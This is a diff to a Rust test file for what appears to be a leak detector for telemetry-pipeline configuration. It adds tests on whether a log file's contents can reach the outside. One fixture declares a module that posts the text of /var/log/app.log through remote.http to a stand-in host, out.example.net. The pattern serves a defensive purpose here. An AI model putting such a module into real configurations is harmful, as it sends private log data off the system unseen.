@@ -92,6 +92,13 @@ fn text_of_a_log_file_leaks_with_the_request_for_a_module() {
 }
 
 #[test]
+fn text_of_a_log_file_leaks_through_what_a_module_is_given() {
+    let module = "declare \"post\" {\n  argument \"text\" { }\n  remote.http \"r\" {\n    url = \"https://out.example.net/x\"\n    body = argument.text.value\n  }\n}\npost \"p\" { text = local.file.f.content }\n";
+    leak(&with_file("\"/var/log/app.log\"", module), &["https://out.example.net/x"]);
+    ends(&with_file("\"/etc/app/request\"", module), Verdict::NotApplicable);
+}
+
+#[test]
 fn answers_of_loki_leak_as_a_body() {
     let program = |api: &str| {
         format!(
@@ -118,11 +125,19 @@ fn text_of_a_log_file_in_arguments_that_others_use_is_not_followed() {
     for rest in [
         "otelcol.auth.headers \"h\" {\n  header {\n    key = \"x\"\n    value = local.file.f.content\n  }\n}\n",
         "prometheus.relabel \"r\" {\n  forward_to = []\n  rule {\n    target_label = \"x\"\n    replacement = local.file.f.content\n  }\n}\n",
+        "otelcol.processor.attributes \"a\" {\n  action {\n    key = \"x\"\n    action = \"insert\"\n    value = local.file.f.content\n  }\n  output { metrics = [] }\n}\n",
         "discovery.relabel \"r\" {\n  targets = []\n  rule {\n    target_label = \"x\"\n    replacement = string.trim_space(local.file.f.content)\n  }\n}\n",
     ] {
         ends(&with_file("\"/var/log/app.log\"", rest), Verdict::Undecided);
         ends(&with_file("\"/etc/app/name\"", rest), Verdict::NotApplicable);
     }
+}
+
+#[test]
+fn text_of_a_log_file_in_a_component_that_is_not_known_may_go_anywhere() {
+    let unknown = "prometheus.magic \"m\" { text = local.file.f.content }\n";
+    ends(&with_file("\"/var/log/app.log\"", unknown), Verdict::Undecided);
+    ends(&with_file("\"/etc/app/name\"", unknown), Verdict::NotApplicable);
 }
 
 #[test]
